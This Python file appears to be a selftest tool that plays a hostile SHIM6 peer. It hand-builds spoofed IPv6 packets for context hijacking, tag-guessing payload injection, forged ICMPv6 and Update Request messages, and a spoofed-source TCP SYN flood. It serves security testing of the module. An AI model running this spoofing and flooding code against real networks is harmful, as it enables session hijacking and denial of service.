#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A hostile SHIM6 peer (RFC 5533, RFC 5535) for the shim6 selftests.

It writes SHIM6 control messages, payload extension headers, and the few
ICMPv6 and TCP packets the attacks need, octet by octet with the standard
library only, sends them with any source address through a raw IPv6 socket
(IPPROTO_RAW: the whole IPv6 header is ours), and reads what comes back with
a packet socket, which sees packets for any address, ours or spoofed, even
when the local kernel answers them itself.

It shares no code with the module on purpose: the formats are written again
here from RFC 5533 section 5, so that a bug in the module's codec cannot
hide itself from the test.

`Peer` holds the attacks' packet exchanges (tools/hostile/attacks.py runs
them for selftests/shim6_hostile.sh); the subcommands run one at a time
by hand, each printing one JSON object on stdout: what it sent and what it
saw.  `sniff` runs until killed and writes one JSON object per packet.
"""

import argparse
import ctypes
import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time

PROTO_SHIM6 = 140
NO_NEXT_HEADER = 59
PROTO_ICMPV6 = 58
PROTO_UDP = 17
PROTO_TCP = 6
ETH_P_ALL = 0x0003
ETH_P_IPV6 = 0x86DD
PACKET_OUTGOING = 4
SO_ATTACH_FILTER = 26
SO_RCVBUFFORCE = 33
SKF_AD_PROTOCOL = 0xFFFFF000

# Message types (RFC 5533 section 5.3).
I1, R1, I2, R2, R1BIS, I2BIS = 1, 2, 3, 4, 5, 6
UPDATE_REQUEST, UPDATE_ACK = 64, 65
TYPE_NAMES = {I1: "I1", R1: "R1", I2: "I2", R2: "R2", R1BIS: "R1bis",
              I2BIS: "I2bis", UPDATE_REQUEST: "UpdateRequest",
              UPDATE_ACK: "UpdateAck", 66: "Keepalive", 67: "Probe",
              68: "Error"}

# Option types (RFC 5533 section 5.15).
OPT_VALIDATOR, OPT_LOCATOR_LIST = 1, 2
OPT_ULID_PAIR, OPT_FII = 6, 7
VERIFY_HBA = 1

TAG_MASK = (1 << 47) - 1


def addr(a):
    """The 16 octets of an IPv6 address in text form."""
    return socket.inet_pton(socket.AF_INET6, a)


def text(b):
    return socket.inet_ntop(socket.AF_INET6, bytes(b))


def checksum(data):
    """The Internet checksum (RFC 1071): the one's complement of the one's
    complement sum of the data as big-endian 16-bit words."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s > 0xFFFF:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv6(src, dst, nh, payload, hop_limit=64):
    """An IPv6 packet: the fixed header, then payload."""
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), nh, hop_limit,
                       addr(src), addr(dst)) + payload


def pseudo_header(src, dst, nh, length):
    """The IPv6 pseudo-header of upper-layer checksums (RFC 8200 8.1)."""
    return addr(src) + addr(dst) + struct.pack("!I3xB", length, nh)


def udp(src, dst, sport, dport, data):
    """A UDP datagram whose checksum covers src and dst: for payload that
    travels behind the SHIM6 extension header these are the ULIDs, which
    the receiver restores before UDP sees the datagram."""
    length = 8 + len(data)
    hdr = struct.pack("!HHHH", sport, dport, length, 0)
    c = checksum(pseudo_header(src, dst, PROTO_UDP, length) + hdr + data)
    return struct.pack("!HHHH", sport, dport, length, c or 0xFFFF) + data


def icmpv6(src, dst, icmp_type, code, body):
    """An ICMPv6 message, checksummed over the pseudo-header."""
    msg = struct.pack("!BBH", icmp_type, code, 0) + body
    c = checksum(pseudo_header(src, dst, PROTO_ICMPV6, len(msg)) + msg)
    return msg[:2] + struct.pack("!H", c) + msg[4:]


def tag_bytes(tag):
    """The 6 octets of an R | Context Tag field, R = 0."""
    return (tag & TAG_MASK).to_bytes(6, "big")


def option(opt_type, contents, critical=False):
    """One option TLV (RFC 5533 5.15): Length counts the contents only,
    the whole is padded with zeros to a multiple of 8 octets."""
    hdr = struct.pack("!HH", (opt_type << 1) | int(critical), len(contents))
    tlv = hdr + contents
    return tlv + b"\0" * (-len(tlv) % 8)


def opt_validator(v):
    return option(OPT_VALIDATOR, v)


def opt_ulid_pair(sender, receiver):
    """ULID Pair (5.15.6): 4 reserved octets, sender ULID, receiver ULID."""
    return option(OPT_ULID_PAIR, b"\0" * 4 + addr(sender) + addr(receiver))


def opt_fii(fii):
    return option(OPT_FII, struct.pack("!I", fii))


def opt_locator_list(generation, locators, method=VERIFY_HBA):
    """Locator List (5.15.2): generation, count, one verification method
    per locator, internal padding to 8-align the locators (7 - N mod 8
    octets, counted in Length), the locators."""
    n = len(locators)
    c = struct.pack("!IB", generation, n) + bytes([method] * n)
    c += b"\0" * (7 - n % 8)
    c += b"".join(addr(a) for a in locators)
    return option(OPT_LOCATOR_LIST, c)


def control(msg_type, fields, options=b""):
    """A SHIM6 control message (5.3): Next Header 59, Hdr Ext Len, P = 0 and
    the type, S = 0, the checksum over the message alone (no
    pseudo-header), then `fields` (octets 6 up to the options) and the
    options.  The whole is a multiple of 8 octets."""
    body = fields + options
    length = 6 + len(body)
    assert length % 8 == 0 and length >= 16, (msg_type, length)
    hdr = struct.pack("!BBBBH", NO_NEXT_HEADER, length // 8 - 1,
                      msg_type & 0x7F, 0, 0)
    msg = hdr + body
    c = checksum(msg)
    return msg[:4] + struct.pack("!H", c) + msg[6:]


def msg_i1(tag, nonce, options=b""):
    return control(I1, tag_bytes(tag) + struct.pack("!I", nonce), options)


def msg_i2(tag, init_nonce, resp_nonce, options=b""):
    return control(I2, tag_bytes(tag) + struct.pack("!II4x", init_nonce,
                                                    resp_nonce), options)


def msg_i2bis(tag, init_nonce, resp_nonce, packet_tag, options=b""):
    """I2bis (5.9): the 47-bit Packet Context Tag ends the 32 fixed octets
    after 49 reserved bits."""
    fields = tag_bytes(tag) + struct.pack("!II", init_nonce, resp_nonce)
    fields += b"\0" * 6 + tag_bytes(packet_tag)
    return control(I2BIS, fields, options)


def msg_update_request(tag, nonce, options=b""):
    return control(UPDATE_REQUEST, tag_bytes(tag) + struct.pack("!I", nonce),
                   options)


def payload_header(next_header, tag):
    """The payload extension header (5.2): P = 1 and the receiver's tag."""
    t = bytearray(tag_bytes(tag))
    t[0] |= 0x80
    return struct.pack("!BB", next_header, 0) + bytes(t)


def parse_options(b):
    """The options of a control message, as (type, critical, contents)."""
    out, i = [], 0
    while i + 4 <= len(b):
        word, length = struct.unpack_from("!HH", b, i)
        out.append((word >> 1, word & 1, bytes(b[i + 4:i + 4 + length])))
        i += (4 + length + 7) & ~7
    return out


def parse_shim6(b):
    """What a SHIM6 header says, as a dict (empty if it is too short)."""
    if len(b) < 8:
        return {}
    if b[2] & 0x80:
        tag = int.from_bytes(b[2:8], "big") & TAG_MASK
        return {"p": 1, "nh": b[0], "tag": tag}
    t = b[2] & 0x7F
    msg = bytes(b[:(b[1] + 1) * 8])
    d = {"p": 0, "type": t, "name": TYPE_NAMES.get(t, str(t)),
         "len": len(msg), "csum_ok": len(msg) >= 8 and checksum(msg) == 0}
    if len(msg) < 16:
        return d

    def u32(at):
        if len(msg) < at + 4:
            return None
        return struct.unpack_from("!I", msg, at)[0]

    def tag(at):
        return int.from_bytes(msg[at:at + 6], "big") & TAG_MASK

    at = 16
    if t == R1:
        d.update(init_nonce=u32(8), resp_nonce=u32(12))
    elif t == I2:
        d.update(tag=tag(6), init_nonce=u32(12), resp_nonce=u32(16))
        at = 24
    elif t == I2BIS:
        d.update(tag=tag(6), init_nonce=u32(12), resp_nonce=u32(16),
                 packet_tag=tag(26))
        at = 32
    elif t in (I1, R2):
        d.update(tag=tag(6), init_nonce=u32(12))
    elif t == R1BIS:
        d.update(tag=tag(6), resp_nonce=u32(12))
    elif t in (UPDATE_REQUEST, UPDATE_ACK):
        d.update(tag=tag(6), nonce=u32(12))
    elif t == 68:
        return d
    opts = parse_options(msg[at:])
    d["options"] = [o[0] for o in opts]
    for o_type, _, c in opts:
        if o_type == OPT_VALIDATOR:
            d["validator"] = c.hex()
        elif o_type == OPT_ULID_PAIR and len(c) == 36:
            d["ulids"] = [text(c[4:20]), text(c[20:36])]
        elif o_type == OPT_FII and len(c) == 4:
            d["fii"] = struct.unpack("!I", c)[0]
        elif o_type == OPT_LOCATOR_LIST and len(c) >= 5:
            gen, n = struct.unpack_from("!IB", c)
            start = 5 + n + 7 - n % 8
            d["generation"] = gen
            ends = range(start + 16, len(c) + 1, 16)
            d["locators"] = [text(c[e - 16:e]) for e in ends][:n]
    return d


def parse_ipv6(pkt):
    """The fields of an IPv6 packet this test looks at, as a dict."""
    if len(pkt) < 40 or pkt[0] >> 4 != 6:
        return None
    nh = pkt[6]
    d = {"src": text(pkt[8:24]), "dst": text(pkt[24:40]), "nh": nh,
         "len": len(pkt)}
    rest = pkt[40:]
    if nh == PROTO_SHIM6:
        d["shim"] = parse_shim6(rest)
    elif nh == PROTO_UDP and len(rest) >= 8:
        d["sport"], d["dport"] = struct.unpack_from("!HH", rest)
        d["data"] = rest[8:64].decode("ascii", "replace")
    elif nh == PROTO_ICMPV6 and len(rest) >= 4:
        d["icmp"] = [rest[0], rest[1]]
    elif nh == PROTO_TCP and len(rest) >= 14:
        d["sport"], d["dport"] = struct.unpack_from("!HH", rest)
        d["tcp_flags"] = rest[13]
    return d


class Sender:
    """A raw IPv6 socket that sends whole packets, IPv6 header included:
    any source address goes, which is the point."""

    def __init__(self, iface=None):
        self.sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW,
                                  socket.IPPROTO_RAW)
        self.scope = 0
        if iface:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE,
                                 iface.encode())
            self.scope = socket.if_nametoindex(iface)

    def send(self, pkt):
        dst = text(pkt[24:40])
        # Link-local and multicast destinations need an interface.
        self.sock.sendto(pkt, (dst, 0, 0, self.scope))


def bpf_next_header(protos):
    """A classic BPF program passing IPv6 packets whose Next Header is one
    of `protos` (a packet socket of type SOCK_DGRAM filters from the
    network header): the kernel drops the rest, so the capture keeps up
    with a flood."""
    n = len(protos)
    insns = [
        (0x28, 0, 0, SKF_AD_PROTOCOL),  # ldh proto
        (0x15, 0, n + 1, ETH_P_IPV6),  # jeq #0x86dd, else drop
        (0x30, 0, 0, 6),  # ldb [6]
    ]
    for i, p in enumerate(protos):
        # jeq #p, accept (the last jump lands on "ret #-1"), else next.
        insns.append((0x15, n - i, 0, p))
    insns.append((0x06, 0, 0, 0))  # ret #0
    insns.append((0x06, 0, 0, 0xFFFFFFFF))  # ret #-1
    return insns


class Sniffer:
    """A packet socket for IPv6: every packet on `iface` (or on every
    interface of the namespace), both directions, whatever its
    destination.  Packets this host sends show up as outgoing: only a
    socket for every protocol (ETH_P_ALL) sees those, so the filter picks
    IPv6.  Packets wait in the socket's queue until read."""

    def __init__(self, iface=None, protos=(PROTO_SHIM6,)):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM,
                                  socket.htons(ETH_P_ALL))
        self.protos = set(protos)
        if protos:
            insns = bpf_next_header(list(protos))
            prog = b"".join(struct.pack("HBBI", *i) for i in insns)
            self._buf = ctypes.create_string_buffer(prog)
            fprog = struct.pack("HL", len(insns), ctypes.addressof(self._buf))
            self.sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
        # Room for what a flood leaves queued between two reads.
        try:
            self.sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 32 << 20)
        except OSError:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        if iface and iface != "any":
            self.sock.bind((iface, ETH_P_ALL))
        self.sock.setblocking(False)
        # Packets queued before the filter went on: gone.
        while self._read() is not False:
            pass

    def _read(self):
        """One queued packet as (parsed dict, raw bytes), None for one this
        sniffer does not want, False when the queue is empty."""
        try:
            pkt, sa = self.sock.recvfrom(65535)
        except BlockingIOError:
            return False
        if sa[1] != ETH_P_IPV6:
            return None
        d = parse_ipv6(pkt)
        if d is None or (self.protos and d["nh"] not in self.protos):
            return None
        d["if"] = sa[0]
        d["out"] = sa[2] == PACKET_OUTGOING
        return d, pkt

    def recv(self, timeout):
        """The next packet as (parsed dict, raw bytes), or None once
        `timeout` seconds passed (0: only what is queued)."""
        end = time.monotonic() + timeout
        while True:
            r = self._read()
            if r:
                return r
            if r is None:
                continue
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.sock], [], [], left)[0]:
                return None

    def wait(self, pred, timeout):
        """The first incoming packet (parsed) for which `pred` holds, or
        None after `timeout` seconds."""
        end = time.monotonic() + timeout
        while True:
            r = self.recv(end - time.monotonic())
            if r is None:
                return None
            if not r[0]["out"] and pred(r[0]):
                return r[0]

    def collect(self, seconds):
        """Every incoming packet (parsed) for `seconds`."""
        got = []
        self.wait(lambda d: got.append(d), seconds)
        return got


def number(s):
    """An integer in any base Python reads (shimctl prints tags in hex)."""
    return int(s, 0)


def rand32():
    return random.getrandbits(32)


def rand_tag():
    return random.getrandbits(47) or 1


def is_shim(d, msg_type, src=None, dst=None):
    """Whether `d` (parsed) is a control message of `msg_type` from `src`
    to `dst`."""
    s = d.get("shim") or {}
    return (s.get("p") == 0 and s.get("type") == msg_type
            and (src is None or d["src"] == src)
            and (dst is None or d["dst"] == dst))


class Peer:
    """The hostile peer: sends through `sender`, waits for answers with
    `wait(pred, timeout)` (a Sniffer's, or any that sees the link)."""

    def __init__(self, sender, wait):
        self.send = sender.send
        self.sender = sender
        self.wait = wait

    def hijack(self, src, dst, sender, receiver, fii=0, locators=(),
               timeout=3):
        """I1, then the I2 that answers the R1: exactly what an initiator
        would send, from `src`, naming (`sender`, `receiver`) in the ULID
        Pair, with a Locator List naming `locators` (no PDS can verify
        them).  Returns what came back: {"r1": fields or None, "r2":
        fields or None}."""
        tag, nonce = rand_tag(), rand32()
        extra = opt_ulid_pair(sender, receiver)
        if fii:
            extra += opt_fii(fii)
        self.send(ipv6(src, dst, PROTO_SHIM6, msg_i1(tag, nonce, extra)))
        res = {"tag": tag, "init_nonce": nonce, "r1": None, "r2": None}
        r1 = self.wait(lambda d: is_shim(d, R1, dst, src)
                       and d["shim"].get("init_nonce") == nonce, timeout)
        if r1 is None:
            return res
        res["r1"] = r1["shim"]
        # The I2 echoes the Responder Nonce and Validator and names the
        # same ULIDs and FII: the validator covers those.
        opts = opt_validator(bytes.fromhex(r1["shim"].get("validator", "")))
        if locators:
            opts += opt_locator_list(rand32(), list(locators))
        opts += extra
        self.send(ipv6(src, dst, PROTO_SHIM6,
                       msg_i2(tag, nonce, r1["shim"]["resp_nonce"], opts)))
        r2 = self.wait(lambda d: is_shim(d, R2, dst, src)
                       and d["shim"].get("init_nonce") == nonce, timeout)
        res["r2"] = r2["shim"] if r2 else None
        return res

    def r1bis_hijack(self, src, dst, pairs, fiis, timeout=3):
        """Payload with a random tag draws an R1bis; one I2bis per ULID
        pair and FII answers it, each naming (sender, receiver).  Returns
        the R1bis fields (or None) and one attempt per I2bis with the R2
        it drew (or None)."""
        packet_tag = rand_tag()
        inner = udp(src, dst, 7777, 7777, b"who are you")
        self.send(ipv6(src, dst, PROTO_SHIM6,
                       payload_header(PROTO_UDP, packet_tag) + inner))
        res = {"packet_tag": packet_tag, "r1bis": None, "attempts": []}
        r1bis = self.wait(lambda d: is_shim(d, R1BIS, dst, src)
                          and d["shim"].get("tag") == packet_tag, timeout)
        if r1bis is None:
            return res
        s = res["r1bis"] = r1bis["shim"]
        validator = bytes.fromhex(s.get("validator", ""))
        by_nonce = {}
        for fii in fiis:
            for sender, receiver in pairs:
                tag, nonce = rand_tag(), rand32()
                opts = opt_validator(validator)
                opts += opt_ulid_pair(sender, receiver)
                if fii:
                    opts += opt_fii(fii)
                self.send(ipv6(src, dst, PROTO_SHIM6,
                               msg_i2bis(tag, nonce, s["resp_nonce"],
                                         packet_tag, opts)))
                att = {"sender": sender, "receiver": receiver, "fii": fii,
                       "tag": tag, "r2": None}
                by_nonce[nonce] = att
                res["attempts"].append(att)

        # The answers, matched to their I2bis by the Initiator Nonce.
        def answer(d):
            if is_shim(d, R2, dst, src):
                att = by_nonce.get(d["shim"].get("init_nonce"))
                if att:
                    att["r2"] = d["shim"]
            return all(a["r2"] for a in res["attempts"])
        self.wait(answer, timeout)
        return res

    def inject(self, src, dsts, sender, receiver, sport, dport, tags):
        """Payload extension headers with each tag, carrying a UDP
        datagram checksummed over the claimed ULIDs."""
        for tag in tags:
            data = ("inject tag %d" % tag).encode()
            inner = udp(sender, receiver, sport, dport, data)
            for dst in dsts:
                self.send(ipv6(src, dst, PROTO_SHIM6,
                               payload_header(PROTO_UDP, tag) + inner))

    def i1(self, src, dst, sender=None, receiver=None, fii=0):
        """One I1, with a ULID Pair if `sender` is given."""
        tag, nonce = rand_tag(), rand32()
        opts = b""
        if sender:
            opts += opt_ulid_pair(sender, receiver)
        if fii:
            opts += opt_fii(fii)
        self.send(ipv6(src, dst, PROTO_SHIM6, msg_i1(tag, nonce, opts)))
        return {"tag": tag, "init_nonce": nonce}

    def icmp_param_problem(self, src, dst, quoted_src, quoted_dst, tag,
                           nonce, pointer=6):
        """ICMPv6 Parameter Problem, unrecognized Next Header, quoting an
        I1 from `quoted_src` to `quoted_dst` with this tag and nonce.  The
        right pointer is 6, the Next Header field of the quoted IPv6
        header."""
        quoted = ipv6(quoted_src, quoted_dst, PROTO_SHIM6,
                      msg_i1(tag, nonce))
        body = struct.pack("!I", pointer) + quoted
        self.send(ipv6(src, dst, PROTO_ICMPV6,
                       icmpv6(src, dst, 4, 1, body)))

    def update_request(self, src, dst, tag, empty_list=False, generation=0):
        """An Update Request for the receiver's tag: without any option,
        or with a Locator List that names no locator."""
        nonce = rand32()
        opts = opt_locator_list(generation, []) if empty_list else b""
        self.send(ipv6(src, dst, PROTO_SHIM6,
                       msg_update_request(tag, nonce, opts)))
        return {"tag": tag, "nonce": nonce, "empty_list": empty_list}

    def synflood(self, prefix, dst, dport, count, seconds=None):
        """TCP SYNs from random sources of a /64, `count` of them or as
        many as `seconds` allow.  Built from octets directly: the test VM
        is slow, and the point is many packets."""
        pfx = ipaddress.IPv6Network(prefix).network_address.packed[:8]
        daddr = addr(dst)
        mss = struct.pack("!BBH", 2, 4, 1220)
        start = time.monotonic()
        sent = 0
        while sent < count:
            if seconds is not None and time.monotonic() - start > seconds:
                break
            sent += 1
            saddr = pfx + random.getrandbits(64).to_bytes(8, "big")
            hdr = struct.pack("!HHIIBBHHH", random.randint(1024, 65535),
                              dport, rand32(), 0, 6 << 4, 0x02, 65535, 0, 0)
            hdr += mss
            pseudo = saddr + daddr + struct.pack("!I3xB", len(hdr), PROTO_TCP)
            c = checksum(pseudo + hdr)
            hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
            pkt = struct.pack("!IHBB", 6 << 28, len(hdr), PROTO_TCP, 64)
            self.sender.sock.sendto(pkt + saddr + daddr + hdr,
                                    (dst, 0, 0, self.sender.scope))
        return {"sent": sent, "seconds": round(time.monotonic() - start, 2)}


def summary(d):
    """A received packet for a JSON report, without the long fields."""
    s = {"src": d["src"], "dst": d["dst"]}
    s.update({k: v for k, v in (d.get("shim") or {}).items()
              if k != "validator"})
    return s


# --- command line: one attack step at a time --------------------------

def peer_for(a):
    sn = Sniffer(a.iface)
    return Peer(Sender(a.iface), sn.wait), sn


def cmd_sniff(a):
    """Writes every packet seen as a JSON line, with its octets in hex for
    replays, until killed."""
    sn = Sniffer(a.iface, a.proto)
    with open(a.out, "a", buffering=1) as out:
        if a.ready:
            with open(a.ready, "w") as f:
                f.write("ready\n")
        while True:
            r = sn.recv(3600)
            if r is None or (a.in_only and r[0]["out"]):
                continue
            d, pkt = r
            if d["nh"] == PROTO_SHIM6:
                d["hex"] = pkt.hex()
            d["t"] = round(time.time(), 3)
            out.write(json.dumps(d) + "\n")


def cmd_hijack(a):
    peer, _ = peer_for(a)
    print(json.dumps(peer.hijack(a.src, a.dst, a.sender, a.receiver, a.fii,
                                 a.locator, a.wait)))


def cmd_r1bis(a):
    peer, _ = peer_for(a)
    pairs = [tuple(x.split(",")) for x in a.pair]
    print(json.dumps(peer.r1bis_hijack(a.src, a.dst, pairs, a.fii, a.wait)))


def cmd_i1(a):
    peer, sn = peer_for(a)
    res = peer.i1(a.src, a.dst, a.sender, a.receiver, a.fii)
    res["seen"] = [summary(d) for d in sn.collect(a.wait)]
    print(json.dumps(res))


def cmd_inject(a):
    Peer(Sender(a.iface), None).inject(a.src, a.dst, a.sender, a.receiver,
                                       a.sport, a.dport, a.tag)
    print(json.dumps({"sent": a.tag}))


def cmd_icmp_pp(a):
    peer = Peer(Sender(a.iface), None)
    sent = []
    for pointer in a.pointer or [6]:
        nonce = rand32() if a.nonce is None else a.nonce
        peer.icmp_param_problem(a.src, a.dst, a.quoted_src, a.quoted_dst,
                                a.tag, nonce, pointer)
        sent.append({"pointer": pointer, "nonce": nonce})
    print(json.dumps({"sent": sent}))


def cmd_update(a):
    peer = Peer(Sender(a.iface), None)
    print(json.dumps(peer.update_request(a.src, a.dst, a.tag, a.empty_list,
                                         a.generation)))


def cmd_synflood(a):
    peer = Peer(Sender(a.iface), None)
    print(json.dumps(peer.synflood(a.prefix, a.dst, a.dport, a.count)))


def main(argv):
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)

    def cmd(name, fn, help_):
        c = sub.add_parser(name, help=help_)
        c.set_defaults(fn=fn)
        c.add_argument("--iface", help="interface to send and listen on")
        return c

    c = cmd("sniff", cmd_sniff, "log every IPv6 packet as JSON lines")
    c.add_argument("--proto", type=int, action="append", default=[],
                   help="only this Next Header (repeatable)")
    c.add_argument("--in-only", action="store_true",
                   help="leave out what this host sends")
    c.add_argument("--out", required=True)
    c.add_argument("--ready", help="file written once listening")

    for name, fn, h in (("hijack", cmd_hijack, "I1, R1, I2 naming others"),
                        ("i1", cmd_i1, "one I1, and what comes back")):
        c = cmd(name, fn, h)
        c.add_argument("--src", required=True)
        c.add_argument("--dst", required=True)
        c.add_argument("--sender", help="ULID Pair: sender ULID")
        c.add_argument("--receiver", help="ULID Pair: receiver ULID")
        c.add_argument("--fii", type=int, default=0)
        c.add_argument("--wait", type=float, default=3)
        c.add_argument("--locator", action="append", default=[],
                       help="Locator List naming these (I2 only)")

    c = cmd("r1bis", cmd_r1bis, "R1bis then I2bis for several ULID pairs")
    c.add_argument("--src", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--pair", action="append", required=True,
                   help="SENDER,RECEIVER ULIDs (repeatable)")
    c.add_argument("--fii", type=int, action="append", required=True)
    c.add_argument("--wait", type=float, default=3)

    c = cmd("inject", cmd_inject, "payload headers with the given tags")
    c.add_argument("--src", required=True)
    c.add_argument("--dst", action="append", required=True)
    c.add_argument("--sender", required=True)
    c.add_argument("--receiver", required=True)
    c.add_argument("--sport", type=int, required=True)
    c.add_argument("--dport", type=int, required=True)
    c.add_argument("--tag", type=number, action="append", required=True)

    c = cmd("icmp-pp", cmd_icmp_pp, "forged ICMPv6 Parameter Problem")
    c.add_argument("--src", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--quoted-src", required=True)
    c.add_argument("--quoted-dst", required=True)
    c.add_argument("--tag", type=number, required=True)
    c.add_argument("--nonce", type=number,
                   help="Initiator Nonce of the quoted I1 (default random)")
    c.add_argument("--pointer", type=int, action="append",
                   help="one message per pointer (default 6)")

    c = cmd("update", cmd_update, "forged Update Request")
    c.add_argument("--src", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--tag", type=number, required=True)
    c.add_argument("--empty-list", action="store_true")
    c.add_argument("--generation", type=int, default=0)

    c = cmd("synflood", cmd_synflood, "TCP SYNs from spoofed sources")
    c.add_argument("--prefix", required=True)
    c.add_argument("--dst", required=True)
    c.add_argument("--dport", type=int, required=True)
    c.add_argument("--count", type=int, default=2000)

    a = p.parse_args(argv)
    a.fn(a)


if __name__ == "__main__":
    main(sys.argv[1:])
